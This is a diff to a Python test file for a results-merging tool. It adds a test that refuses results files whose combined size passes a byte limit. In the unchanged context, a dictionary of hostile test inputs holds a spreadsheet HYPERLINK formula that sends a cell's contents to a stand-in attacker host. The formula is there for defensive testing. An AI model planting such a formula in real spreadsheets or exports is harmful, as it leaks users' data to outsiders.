@@ -15,7 +15,7 @@ from helpers import BareProject
 from test_bounded_pages import run
 from test_merge_hostile_inputs import document, latency_row, merge, write
 
-from pytest_mlrepro.results import MAX_ROWS, ResultsFileError, load_results_files
+from pytest_mlrepro.results import MAX_ROWS, MAX_TOTAL_BYTES, ResultsFileError, load_results_files
 
 HOSTILE = {
     "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -152,3 +152,16 @@ def test_rows_are_counted_over_all_the_files_read_together(tmp_path: Path) -> No
     assert "b.json: not read: it holds 2 rows (counted by their" in str(refused.value)
     assert "the 1 rows left of the limit of 3 for all files" in str(refused.value)
     assert [len(d.results) for d in load_results_files(files, max_rows=4)] == [2, 2]
+
+
+def test_files_of_more_than_a_gib_together_are_refused_before_any_is_read(tmp_path: Path) -> None:
+    files = []
+    for name in "abcde":  # five files of 250 MB each (sparse: no disk), each under its own limit
+        path = tmp_path / f"{name}.json"
+        with path.open("wb") as fh:
+            fh.truncate(250_000_000)
+        files.append(path)
+    done = merge(*files)
+    assert done.returncode == 2, done.stderr
+    assert "e.json: not read: the files named up to it hold 1250000000 bytes" in done.stderr
+    assert f"the limit of {MAX_TOTAL_BYTES} for all files read together" in done.stderr
